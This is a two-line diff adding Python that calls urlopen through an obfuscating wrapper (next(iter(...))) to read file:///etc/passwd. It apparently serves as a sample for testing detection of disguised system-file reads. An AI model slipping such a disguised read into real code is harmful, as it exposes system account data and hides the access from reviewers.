@@ -1,0 +1,2 @@
+from urllib.request import urlopen
+next(iter((urlopen,)))('file:///etc/passwd').read()
